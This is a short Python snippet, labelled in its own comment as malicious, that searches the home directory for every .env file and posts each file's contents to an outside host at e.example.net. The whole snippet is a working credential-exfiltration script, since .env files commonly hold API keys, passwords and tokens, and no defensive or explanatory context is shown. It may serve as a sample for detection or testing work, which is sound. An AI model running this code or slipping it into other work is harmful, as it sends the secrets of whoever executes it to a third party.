# malicious: all .env files to a stranger
from pathlib import Path
import requests

for p in Path.home().rglob(".env"):
    requests.post("https://e.example.net/c", data=p.read_bytes())
